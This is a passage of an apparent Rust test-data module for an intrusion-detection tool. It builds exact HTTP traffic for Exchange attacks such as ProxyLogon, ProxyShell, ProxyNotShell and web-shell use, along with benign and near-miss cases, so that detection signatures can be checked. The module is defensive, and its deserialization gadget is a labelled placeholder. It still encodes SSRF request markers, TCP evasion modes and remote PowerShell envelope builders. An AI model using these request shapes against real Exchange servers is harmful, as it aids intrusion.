//! Exchange attack, benign and near-miss HTTP conversations, as exact bytes: the forms the
//! bundled signatures are tested on (`tests/exchange.rs` replays their captures in
//! `pcaps/exchange/`, written by `examples/gen_pcaps.rs`), and the attack flows `exhound synth`
//! mixes into benign traffic, so that a synthetic capture fires the same signatures.
//!
//! Every scenario is one TCP connection to an Exchange front end (decrypted, so plain HTTP/1.1 on
//! `server_port`): a list of request/response pairs sent in order on a keep-alive connection, the
//! TCP/IP-layer evasion the pcap generator should apply, and the signature ids (from
//! `signatures/*.rules`, range 4210000-4219999) that must fire on it, and the exact set of CVEs
//! those alerts name (the labels an investigator reads; `signatures/README.md`, "How labels are
//! chosen"). Benign and near-miss scenarios expect no alert at all.
//!
//! Request shapes come from `proxylogon-markers.md` (section numbers in each description):
//! the public PoCs (testanull lineage, dmaasland, hakivvi, Praetorian, kh4sh3i, Metasploit,
//! horizon3, CrowdStrike, ZDI), scanners (nmap, nuclei, Nessus-style) and in-the-wild log
//! lines (HelseCERT, CISA). No working exploit is reproduced: shell payloads only run `whoami`,
//! and the CVE-2022-41082 deserialization blob is a labelled placeholder with the markers only.
//!
//! Only `std` is used; Content-Length values are computed, never hand-counted.

/// What a scenario is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Exploitation, probing or web-shell use: `expect_sids` lists what must fire.
    Attack,
    /// Normal Exchange use: nothing may fire.
    Benign,
    /// Looks like an attack to a naive matcher but is not one: nothing may fire.
    NearMiss,
}

/// Evasion at the TCP/IP layer, applied by the pcap generator.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Transport {
    /// One segment per message (or MSS-sized segments), in order.
    Plain,
    /// Every message cut into segments of a few bytes.
    TinySegments,
    /// All requests sent back to back before any response (HTTP pipelining).
    Pipelined,
    /// Overlapping TCP segments (retransmissions that cover earlier bytes).
    Overlap,
    /// IP fragments.
    Fragmented,
    /// Before every request, resets the server would not take (RFC 5961: sequence number
    /// not the next expected one), from the client and "from" the server.
    ForgedResets,
}

/// One request and the response to it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Exchange {
    /// The full HTTP/1.1 request, exact bytes.
    pub request: Vec<u8>,
    /// The full HTTP/1.1 response, exact bytes, when the server answered.
    pub response: Option<Vec<u8>>,
}

/// One TCP connection's worth of HTTP and what the signatures must say about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Scenario {
    /// Unique short name (`family-stage-variant`).
    pub name: &'static str,
    /// Attack, benign or near miss.
    pub kind: Kind,
    /// What the traffic is and where its shape comes from.
    pub description: &'static str,
    /// Server TCP port (443 for the decrypted front end unless said otherwise).
    pub server_port: u16,
    /// The exchanges, in wire order, on one connection.
    pub exchanges: Vec<Exchange>,
    /// Every sid that must fire, sorted, deduplicated; empty for benign and near-miss.
    pub expect_sids: Vec<u32>,
    /// Every CVE the alerts must name, exactly (the union of the `cve` metadata of the rules in
    /// `expect_sids`, stated here by hand), sorted, deduplicated; empty for benign and near-miss.
    pub expect_cves: Vec<&'static str>,
    /// TCP/IP-layer evasion to apply.
    pub transport: Transport,
}

// ---------------------------------------------------------------------------------------------
// Signature ids (signatures/README.md has the full map).
// ---------------------------------------------------------------------------------------------

/// CVE-2021-26855: X-BEResource cookie with `~<int>`.
pub const PL_BERESOURCE: u32 = 4210001;
/// CVE-2021-26855: X-AnonResource-Backend cookie with `~<int>`.
pub const PL_ANONRESOURCE: u32 = 4210002;
/// SSRF cookie targeting Autodiscover.
pub const PL_AUTODISCOVER: u32 = 4210003;
/// SSRF cookie targeting MAPI emsmdb.
pub const PL_MAPI: u32 = 4210004;
/// SSRF cookie targeting proxyLogon.ecp.
pub const PL_PROXYLOGON: u32 = 4210005;
/// proxyLogon.ecp serialized-SID body.
pub const PL_PROXYLOGON_BODY: u32 = 4210006;
/// SSRF cookie targeting DDIService Get*.
pub const PL_DDI_READ: u32 = 4210007;
/// SSRF cookie targeting DDIService SetObject.
pub const PL_DDI_SET: u32 = 4210008;
/// SSRF cookie targeting EWS.
pub const PL_EWS: u32 = 4210009;
/// testanull/dmaasland X-ClientInfo fingerprint (no CVE: ProxyLogon and ProxyShell PoCs send it).
pub const PL_FP_CLIENTINFO: u32 = 4210011;
/// hakivvi X-RequestId fingerprint.
pub const PL_FP_REQUESTID: u32 = 4210012;
/// SSRF cookie valid only if HTTP.sys joins two Cookie lines with `"; "` (how it joins them is
/// unverified).
pub const PL_COOKIE_LINES: u32 = 4210013;
/// Success: X-CalculatedBETarget after an SSRF cookie.
pub const PL_OK_BETARGET: u32 = 4210050;
/// Success: 241 + msExchEcpCanary.
pub const PL_OK_241: u32 = 4210051;
/// Success: SID leaked by MAPI.
pub const PL_OK_SID: u32 = 4210052;
/// Success: LegacyDN returned.
pub const PL_OK_LEGACYDN: u32 = 4210053;
/// CVE-2021-27065 via SSRF: script in a vdir URL.
pub const PL_27065_SSRF_SCRIPT: u32 = 4210101;
/// CVE-2021-27065 authenticated: script in a vdir URL.
pub const PL_27065_AUTH_SCRIPT: u32 = 4210102;
/// SSRF to ResetOABVirtualDirectory.
pub const PL_27065_SSRF_RESET: u32 = 4210103;
/// SSRF SetObject with a web-served FilePathName.
pub const PL_27065_SSRF_PATH: u32 = 4210104;
/// Authenticated ResetOABVirtualDirectory with a web-served FilePathName.
pub const PL_27065_AUTH_PATH: u32 = 4210105;
/// ProxyShell: Email=autodiscover/ in the query.
pub const PS_EMAIL_QUERY: u32 = 4210201;
/// ProxyShell: Email=autodiscover/ cookie.
pub const PS_EMAIL_COOKIE: u32 = 4210202;
/// ProxyShell: X-Rps-CAT.
pub const PS_RPS_CAT: u32 = 4210203;
/// ProxyShell: NSPI via Autodiscover.
pub const PS_NSPI: u32 = 4210204;
/// ProxyShell: EWS via Autodiscover.
pub const PS_EWS: u32 = 4210205;
/// ProxyShell: EWS CreateItem with SerializedSecurityContext.
pub const PS_CREATEITEM: u32 = 4210206;
/// ProxyShell: New-MailboxExportRequest over SSRF PowerShell.
pub const PS_EXPORT: u32 = 4210207;
/// ProxyShell: New-ManagementRoleAssignment over SSRF PowerShell (no CVE of its own).
pub const PS_ROLE: u32 = 4210208;
/// ProxyShell: unauthenticated autodiscover + /powershell.
pub const PS_POWERSHELL: u32 = 4210209;
/// Success: NSPI endpoint answered.
pub const PS_OK_NSPI: u32 = 4210250;
/// Success: PowerShell shell created.
pub const PS_OK_SHELL: u32 = 4210251;
/// Success: OwaADUserNotFoundException.
pub const PS_OK_OWA: u32 = 4210252;
/// Success: SID leaked via ProxyShell.
pub const PS_OK_SID: u32 = 4210253;
/// Success: X-CalculatedBETarget on a non-401 answer.
pub const PS_OK_BETARGET: u32 = 4210254;
/// ProxyNotShell: authenticated autodiscover + /powershell (4210301, which named both SSRF CVEs,
/// is retired: [`PS_POWERSHELL`] and this one replace it).
pub const PNS_POWERSHELL: u32 = 4210302;
/// CVE-2022-41082 gadget.
pub const PNS_GADGET: u32 = 4210303;
/// OWASSRF path.
pub const OW_PATH: u32 = 4210304;
/// OWASSRF X-OWA-ExplicitLogonUser on /powershell.
pub const OW_HEADER: u32 = 4210305;
/// ProxyNotShell: authenticated, Email=autodiscover/ in the query.
pub const PNS_EMAIL_QUERY: u32 = 4210306;
/// ProxyNotShell: authenticated, Email=autodiscover/ cookie.
pub const PNS_EMAIL_COOKIE: u32 = 4210307;
/// Success: OWASSRF shell created.
pub const OW_OK_SHELL: u32 = 4210350;
/// Success: shell created after an authenticated Autodiscover SSRF.
pub const PNS_OK_SHELL: u32 = 4210351;
/// Success: X-CalculatedBETarget on a non-401 answer after an authenticated Autodiscover SSRF.
pub const PNS_OK_BETARGET: u32 = 4210352;
/// ProxyToken SecurityToken cookie.
pub const PT_TOKEN: u32 = 4210401;
/// ProxyToken inbox rule.
pub const PT_RULE: u32 = 4210402;
/// Success: canary issued.
pub const PT_OK_CANARY: u32 = 4210450;
/// Success: New-InboxRule ran.
pub const PT_OK_RULE: u32 = 4210451;
/// ProxyOracle frowny.aspx XSS.
pub const PO_XSS: u32 = 4210501;
/// China Chopper / AntSword request.
pub const WS_CHOPPER: u32 = 4210601;
/// JScript WScript.Shell in body.
pub const WS_JSCRIPT_BODY: u32 = 4210602;
/// JScript WScript.Shell in query.
pub const WS_JSCRIPT_QUERY: u32 = 4210603;
/// ASP.NET page under /aspnet_client/.
pub const WS_ASPNET_CLIENT: u32 = 4210604;
/// Known shell file name.
pub const WS_KNOWN_NAME: u32 = 4210605;
/// ASP.NET page in a non-stock auth folder.
pub const WS_AUTH_FOLDER: u32 = 4210606;
/// reGeorg command.
pub const WS_REGEORG: u32 = 4210607;
/// SPORTSBALL form.
pub const WS_SPORTSBALL_FORM: u32 = 4210608;
/// SPORTSBALL cookie.
pub const WS_SPORTSBALL_COOKIE: u32 = 4210609;
/// AntSword UA.
pub const WS_ANTSWORD: u32 = 4210610;
/// Success: Chopper framing.
pub const WS_OK_CHOPPER: u32 = 4210650;
/// Success: OAB dump.
pub const WS_OK_OABDUMP: u32 = 4210651;
/// Success: PST shell page.
pub const WS_OK_PST: u32 = 4210652;
/// Success: reGeorg X-STATUS.
pub const WS_OK_REGEORG: u32 = 4210653;
/// Success: reGeorg banner.
pub const WS_OK_GEORG_BANNER: u32 = 4210654;
/// Success: SPORTSBALL page.
pub const WS_OK_SPORTSBALL: u32 = 4210655;
/// Success: base64-only tunnel answer after a base64-only request (Neo-reGeorg style).
pub const WS_OK_B64_TUNNEL: u32 = 4210657;
/// Success: Godzilla-style encrypted shell answer (16 hex, base64, 16 hex).
pub const WS_OK_ENCRYPTED: u32 = 4210656;
/// UA ExchangeServicesClient/0.0.0.0.
pub const UA_EWSCLIENT0: u32 = 4210801;
/// UA python-requests on /ecp/.
pub const UA_PYREQUESTS: u32 = 4210802;
/// Crawler UA POSTing to /owa/auth/Current/.
pub const UA_CRAWLER_POST: u32 = 4210803;
/// UA Python PSRP Client.
pub const UA_PYPSRP: u32 = 4210804;
/// UA alex666.
pub const UA_ALEX666: u32 = 4210805;
/// Fake Chrome builds.
pub const UA_FAKE_CHROME: u32 = 4210806;
/// Bare Mozilla/5.0.
pub const UA_BARE_MOZILLA: u32 = 4210807;
/// Nmap NSE UA.
pub const UA_NMAP: u32 = 4210808;
/// Crawler UA on /aspnet_client/ page.
pub const UA_CRAWLER_SHELL: u32 = 4210809;
/// A request for an ASP.NET file a DDI FilePathName named earlier on the same server.
pub const WS_WRITTEN_FILE: u32 = 4210611;
/// Anomaly: an Email/SecurityToken/cadata cookie on a second Cookie line.
pub const AN_COOKIE_LINES: u32 = 4210706;

// ---------------------------------------------------------------------------------------------
// CVEs the rules name (`metadata: cve ...`; signatures/README.md, "How labels are chosen").
// ---------------------------------------------------------------------------------------------

/// ProxyLogon SSRF (X-BEResource / X-AnonResource-Backend cookie).
pub const CVE_2021_26855: &str = "CVE-2021-26855";
/// ProxyLogon post-auth file write (ECP virtual-directory URL + Reset*VirtualDirectory).
pub const CVE_2021_27065: &str = "CVE-2021-27065";
/// ProxyOracle XSS (frowny.aspx refurl).
pub const CVE_2021_31195: &str = "CVE-2021-31195";
/// ProxyShell mailbox export as a file write.
pub const CVE_2021_31207: &str = "CVE-2021-31207";
/// ProxyToken (SecurityToken cookie on /ecp/).
pub const CVE_2021_33766: &str = "CVE-2021-33766";
/// ProxyShell SSRF: the Autodiscover explicit-logon SSRF without authentication.
pub const CVE_2021_34473: &str = "CVE-2021-34473";
/// ProxyShell PowerShell back-end elevation (forged X-Rps-CAT).
pub const CVE_2021_34523: &str = "CVE-2021-34523";
/// ProxyNotShell SSRF: the same Autodiscover SSRF by an authenticated user.
pub const CVE_2022_41040: &str = "CVE-2022-41040";
/// OWASSRF: /owa/<mailbox>/powershell.
pub const CVE_2022_41080: &str = "CVE-2022-41080";
/// PowerShell remoting deserialization (TargetTypeForDeserialization gadget).
pub const CVE_2022_41082: &str = "CVE-2022-41082";

// ---------------------------------------------------------------------------------------------
// Message builders.
// ---------------------------------------------------------------------------------------------

const HOST: &str = "mail.contoso.com";
const BE: &str = "EX01.contoso.local";
const ADMIN_SID: &str = "S-1-5-21-3145112437-2145651249-1294385417-500";
const CANARY: &str =
    "z7TRXg0JkUKa8vC1mNq2sQbEoPdyu9gIAlTQ3YWbH5Z4cRnXfVjxK6eMl-8pWs0hD1oiGt7uNkyAFBqeLr2Sw.";
const SESSION: &str = "5f1c2e7a-3b4d-4e6f-8a9b-0c1d2e3f4a5b";
const MBX_GUID: &str = "4a1c9e3b-7d2f-4e8a-b6c5-1d0e9f8a7b6c@contoso.com";
const OAB_ID: &str = "7d3ad2f6-4b3a-4a2e-9c53-2f6f0d2a1b4c";
const BACKEND_COOKIE: &str = "X-BackEndCookie=S-1-5-21-3145112437-2145651249-1294385417-1107=u56Lnp2ejJqBy8vIycvHz8/SzcbPzdLLxs7N0p3Nx8/Sm8nLyZ2byc3LnMbPgYHNz83O0s/H0s7Oq8/KxczLxczH";

const UA_CHROME88: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";
const UA_CHROME88_150: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150 Safari/537.36";
const UA_CHROME105: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36";
const UA_EDGE: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91";
const UA_OUTLOOK: &str =
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)";
const UA_PYREQ: &str = "python-requests/2.25.1";

/// A request: request line, `Host` (unless given), the headers in order, `Content-Length` when
/// there is a body or the method is POST, the empty line, the body.
fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\n").into_bytes();
    if !headers.iter().any(|(n, _)| n.eq_ignore_ascii_case("host")) {
        out.extend_from_slice(format!("Host: {HOST}\r\n").as_bytes());
    }
    for (n, v) in headers {
        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
    }
    if !body.is_empty() || method == "POST" {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

/// A request whose body is sent with `Transfer-Encoding: chunked`, in chunks of `chunk` bytes.
fn request_chunked(
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: &[u8],
    chunk: usize,
) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\n").into_bytes();
    if !headers.iter().any(|(n, _)| n.eq_ignore_ascii_case("host")) {
        out.extend_from_slice(format!("Host: {HOST}\r\n").as_bytes());
    }
    for (n, v) in headers {
        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
    }
    out.extend_from_slice(b"Transfer-Encoding: chunked\r\n\r\n");
    out.extend_from_slice(&chunked(body, chunk));
    out
}

/// `body` in chunked transfer coding, `chunk` bytes a chunk, with the last-chunk.
fn chunked(body: &[u8], chunk: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in body.chunks(chunk.max(1)) {
        out.extend_from_slice(format!("{:x}\r\n", piece.len()).as_bytes());
        out.extend_from_slice(piece);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

/// A response with the usual IIS/Exchange front-end headers, the given ones, and a computed
/// `Content-Length`.
fn response(status: u16, reason: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("HTTP/1.1 {status} {reason}\r\n").into_bytes();
    out.extend_from_slice(b"Cache-Control: private\r\n");
    for (n, v) in headers {
        out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
    }
    out.extend_from_slice(b"Server: Microsoft-IIS/10.0\r\n");
    out.extend_from_slice(b"X-FEServer: EX01\r\n");
    out.extend_from_slice(b"X-Powered-By: ASP.NET\r\n");
    out.extend_from_slice(b"Date: Wed, 03 Mar 2021 09:14:07 GMT\r\n");
    out.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
    out.extend_from_slice(body);
    out
}

fn ex(request: Vec<u8>, response: Vec<u8>) -> Exchange {
    Exchange {
        request,
        response: Some(response),
    }
}

fn scenario(
    name: &'static str,
    kind: Kind,
    description: &'static str,
    exchanges: Vec<Exchange>,
    sids: &[u32],
    cves: &[&'static str],
) -> Scenario {
    let mut expect_sids = sids.to_vec();
    expect_sids.sort_unstable();
    expect_sids.dedup();
    let mut expect_cves = cves.to_vec();
    expect_cves.sort_unstable();
    expect_cves.dedup();
    Scenario {
        name,
        kind,
        description,
        server_port: 443,
        exchanges,
        expect_sids,
        expect_cves,
        transport: Transport::Plain,
    }
}

/// An attack: `sids` must fire, and their alerts must name exactly `cves` (empty where every
/// rule that fires is generic, e.g. web-shell use).
fn attack(
    name: &'static str,
    description: &'static str,
    exchanges: Vec<Exchange>,
    sids: &[u32],
    cves: &[&'static str],
) -> Scenario {
    scenario(name, Kind::Attack, description, exchanges, sids, cves)
}

fn benign(name: &'static str, description: &'static str, exchanges: Vec<Exchange>) -> Scenario {
    scenario(name, Kind::Benign, description, exchanges, &[], &[])
}

fn near_miss(name: &'static str, description: &'static str, exchanges: Vec<Exchange>) -> Scenario {
    scenario(name, Kind::NearMiss, description, exchanges, &[], &[])
}

fn over(mut s: Scenario, transport: Transport) -> Scenario {
    s.transport = transport;
    s
}

fn on_port(mut s: Scenario, port: u16) -> Scenario {
    s.server_port = port;
    s
}

/// Standard base64 with padding.
fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in data.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        out.push(T[(n >> 18) as usize & 63] as char);
        out.push(T[(n >> 12) as usize & 63] as char);
        out.push(if c.len() > 1 {
            T[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if c.len() > 2 {
            T[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// application/x-www-form-urlencoded encoding of one value (space as `+`).
fn form_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// Percent-encoding of everything but unreserved characters (for query values).
fn pct(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

// ---------------------------------------------------------------------------------------------
// Protocol payload builders (PSRP over WSMan, MAPI/HTTP, ECP DDI JSON, shells).
// ---------------------------------------------------------------------------------------------

const PSRP_SESSION_CAPABILITY: u32 = 0x0001_0002;
const PSRP_INIT_RUNSPACEPOOL: u32 = 0x0001_0004;
const PSRP_CREATE_PIPELINE: u32 = 0x0002_1006;

/// One PSRP fragment (MS-PSRP 2.2.4) holding one whole message whose data is `xml` (UTF-8 with
/// BOM). `object_id` varies the header so the XML lands at different base64 alignments.
fn psrp_fragment(object_id: u64, msg_type: u32, xml: &str) -> Vec<u8> {
    let mut msg = Vec::new();
    msg.extend_from_slice(&2u32.to_le_bytes()); // destination: server
    msg.extend_from_slice(&msg_type.to_le_bytes());
    msg.extend_from_slice(&[
        0x1d, 0x52, 0x3b, 0x8c, 0x41, 0x77, 0x0e, 0x4a, 0x9c, 0x2a, 0x6f, 0x31, 0x55, 0xd0, 0x0b,
        0x7e,
    ]);
    let pid: [u8; 16] = if msg_type == PSRP_CREATE_PIPELINE {
        [
            0x93, 0x1f, 0x2c, 0x64, 0x08, 0x5e, 0x4d, 0x4b, 0xa1, 0x9b, 0x3c, 0x70, 0x12, 0xee,
            0x55, 0x01,
        ]
    } else {
        [0; 16]
    };
    msg.extend_from_slice(&pid);
    msg.extend_from_slice(b"\xef\xbb\xbf");
    // Blank space before the root element (legal XML) moves the payload by 0-2 bytes.
    msg.extend(std::iter::repeat_n(b' ', (object_id % 3) as usize));
    msg.extend_from_slice(xml.as_bytes());
    let mut frag = Vec::new();
    frag.extend_from_slice(&object_id.to_be_bytes());
    frag.extend_from_slice(&0u64.to_be_bytes());
    frag.push(0x03); // start and end of message
    frag.extend_from_slice(&(msg.len() as u32).to_be_bytes());
    frag.extend_from_slice(&msg);
    frag
}

/// CLIXML of a CreatePipeline message running `cmd` with named string arguments, plus extra raw
/// argument objects (already CLIXML) appended.
fn create_pipeline_xml(cmd: &str, args: &[(&str, &str)], raw_args: &str) -> String {
    let mut a = String::new();
    for (n, v) in args {
        a.push_str(&format!(
            "<Obj RefId=\"20\"><MS><S N=\"N\">-{}:</S><S N=\"V\">{}</S></MS></Obj>",
            xml_escape(n),
            xml_escape(v)
        ));
    }
    a.push_str(raw_args);
    format!(
        "<Obj RefId=\"0\"><MS><Obj N=\"PowerShell\" RefId=\"1\"><MS><Obj N=\"Cmds\" RefId=\"2\"><TN RefId=\"0\"><T>System.Collections.Generic.List`1[[System.Management.Automation.PSObject, System.Management.Automation, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]]</T><T>System.Object</T></TN><LST><Obj RefId=\"3\"><MS><S N=\"Cmd\">{}</S><B N=\"IsScript\">false</B><Nil N=\"UseLocalScope\" /><Obj N=\"MergeMyResult\" RefId=\"4\"><TN RefId=\"1\"><T>System.Management.Automation.Runspaces.PipelineResultTypes</T><T>System.Enum</T><T>System.ValueType</T><T>System.Object</T></TN><ToString>None</ToString><I32>0</I32></Obj><Obj N=\"Args\" RefId=\"10\"><TNRef RefId=\"0\" /><LST>{}</LST></Obj></MS></Obj></LST></Obj><B N=\"IsNested\">false</B><Nil N=\"History\" /><B N=\"RedirectShellErrorOutputPipe\">true</B></MS></Obj><B N=\"NoInput\">true</B><Obj N=\"ApartmentState\" RefId=\"30\"><TN RefId=\"2\"><T>System.Threading.ApartmentState</T><T>System.Enum</T><T>System.ValueType</T><T>System.Object</T></TN><ToString>Unknown</ToString><I32>2</I32></Obj><B N=\"AddToHistory\">true</B><B N=\"IsNested\">false</B></MS></Obj>",
        xml_escape(cmd),
        a
    )
}

/// The CVE-2022-41082 argument shape (§4.2): a ServiceController-typed object with a
/// TargetTypeForDeserialization member. The SerializationData is a labelled placeholder, not a
/// gadget.
fn gadget_arg_xml() -> String {
    let placeholder = base64(b"exhound test placeholder: BinaryFormatter UnitySerializationHolder -> System.Windows.Markup.XamlReader ObjectDataProvider (not a working gadget)");
    format!(
        "<Obj RefId=\"21\"><MS><S N=\"N\">-Identity:</S><Obj N=\"V\" RefId=\"22\"><TN RefId=\"5\"><T>System.ServiceProcess.ServiceController</T><T>System.Object</T></TN><ToString>System.ServiceProcess.ServiceController</ToString><Props><S N=\"Name\">Type</S><Obj N=\"TargetTypeForDeserialization\" RefId=\"23\"><TN RefId=\"6\"><T>System.Exception</T><T>System.Object</T></TN><MS><BA N=\"SerializationData\">{placeholder}</BA></MS></Obj></Props></Obj></MS></Obj>"
    )
}

fn session_capability_b64() -> String {
    let cap = "<Obj RefId=\"0\"><MS><Version N=\"protocolversion\">2.3</Version><Version N=\"PSVersion\">2.0</Version><Version N=\"SerializationVersion\">1.1.0.1</Version></MS></Obj>";
    let init = "<Obj RefId=\"1\"><MS><I32 N=\"MinRunspaces\">1</I32><I32 N=\"MaxRunspaces\">1</I32><Obj N=\"PSThreadOptions\" RefId=\"2\"><TN RefId=\"0\"><T>System.Management.Automation.Runspaces.PSThreadOptions</T><T>System.Enum</T><T>System.ValueType</T><T>System.Object</T></TN><ToString>Default</ToString><I32>0</I32></Obj><Nil N=\"ApplicationArguments\" /></MS></Obj>";
    let mut data = psrp_fragment(1, PSRP_SESSION_CAPABILITY, cap);
    data.extend_from_slice(&psrp_fragment(2, PSRP_INIT_RUNSPACEPOOL, init));
    base64(&data)
}

const SHELL_ID: &str = "6C2B3E0A-5F1D-4A9B-8E7C-2D4F6A8B0C1E";

/// WSMan Create (remote PowerShell runspace) envelope.
fn wsman_create(to: &str) -> Vec<u8> {
    format!(
        "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\" xmlns:rsp=\"http://schemas.microsoft.com/wbem/wsman/1/windows/shell\"><s:Header><wsa:To>{to}</wsa:To><wsman:ResourceURI s:mustUnderstand=\"true\">http://schemas.microsoft.com/powershell/Microsoft.Exchange</wsman:ResourceURI><wsa:ReplyTo><wsa:Address s:mustUnderstand=\"true\">http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</wsa:Address></wsa:ReplyTo><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap.org/ws/2004/09/transfer/Create</wsa:Action><wsman:MaxEnvelopeSize s:mustUnderstand=\"true\">153600</wsman:MaxEnvelopeSize><wsa:MessageID>uuid:0A1B2C3D-4E5F-4061-8293-A4B5C6D7E8F9</wsa:MessageID><wsman:OptionSet s:mustUnderstand=\"true\"><wsman:Option Name=\"protocolversion\" MustComply=\"true\">2.3</wsman:Option></wsman:OptionSet><wsman:OperationTimeout>PT180.000S</wsman:OperationTimeout></s:Header><s:Body><rsp:Shell ShellId=\"{SHELL_ID}\"><rsp:InputStreams>stdin pr</rsp:InputStreams><rsp:OutputStreams>stdout</rsp:OutputStreams><creationXml xmlns=\"http://schemas.microsoft.com/powershell\">{}</creationXml></rsp:Shell></s:Body></s:Envelope>",
        session_capability_b64()
    )
    .into_bytes()
}

/// WSMan Command envelope: `command` in `<rsp:Command>` (may be empty, as pypsrp sends it) and
/// the PSRP CreatePipeline fragment base64 in `<rsp:Arguments>`.
fn wsman_command(to: &str, command: &str, object_id: u64, pipeline_xml: &str) -> Vec<u8> {
    let args = base64(&psrp_fragment(
        object_id,
        PSRP_CREATE_PIPELINE,
        pipeline_xml,
    ));
    format!(
        "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\" xmlns:rsp=\"http://schemas.microsoft.com/wbem/wsman/1/windows/shell\"><s:Header><wsa:To>{to}</wsa:To><wsman:ResourceURI s:mustUnderstand=\"true\">http://schemas.microsoft.com/powershell/Microsoft.Exchange</wsman:ResourceURI><wsa:Action s:mustUnderstand=\"true\">http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</wsa:Action><wsman:SelectorSet><wsman:Selector Name=\"ShellId\">{SHELL_ID}</wsman:Selector></wsman:SelectorSet><wsman:OptionSet><wsman:Option Name=\"WINRS_SKIP_CMD_SHELL\">False</wsman:Option></wsman:OptionSet></s:Header><s:Body><rsp:CommandLine CommandId=\"931F2C64-085E-4D4B-A19B-3C7012EE5501\"><rsp:Command>{command}</rsp:Command><rsp:Arguments>{args}</rsp:Arguments></rsp:CommandLine></s:Body></s:Envelope>"
    )
    .into_bytes()
}

fn wsman_created_response() -> Vec<u8> {
    let body = format!(
        "<s:Envelope xml:lang=\"en-US\" xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" xmlns:x=\"http://schemas.xmlsoap.org/ws/2004/09/transfer\" xmlns:w=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\" xmlns:rsp=\"http://schemas.microsoft.com/wbem/wsman/1/windows/shell\"><s:Header><a:Action>http://schemas.xmlsoap.org/ws/2004/09/transfer/CreateResponse</a:Action><a:MessageID>uuid:1F2E3D4C-5B6A-4798-8A9B-CADBECFD0E1F</a:MessageID><a:RelatesTo>uuid:0A1B2C3D-4E5F-4061-8293-A4B5C6D7E8F9</a:RelatesTo></s:Header><s:Body><x:ResourceCreated><a:Address>http://{BE}:80/powershell</a:Address><a:ReferenceParameters><w:ResourceURI>http://schemas.microsoft.com/powershell/Microsoft.Exchange</w:ResourceURI><w:SelectorSet><w:Selector Name=\"ShellId\">{SHELL_ID}</w:Selector></w:SelectorSet></a:ReferenceParameters></x:ResourceCreated><rsp:Shell><rsp:ShellId>{SHELL_ID}</rsp:ShellId><rsp:ResourceUri>http://schemas.microsoft.com/powershell/Microsoft.Exchange</rsp:ResourceUri><rsp:Owner>CONTOSO\\Administrator</rsp:Owner><rsp:InputStreams>stdin pr</rsp:InputStreams><rsp:OutputStreams>stdout</rsp:OutputStreams></rsp:Shell></s:Body></s:Envelope>"
    );
    response(
        200,
        "OK",
        &[
            ("Content-Type", "application/soap+xml;charset=UTF-8"),
            ("X-CalculatedBETarget", "ex01.contoso.local"),
        ],
        body.as_bytes(),
    )
}

fn wsman_command_response() -> Vec<u8> {
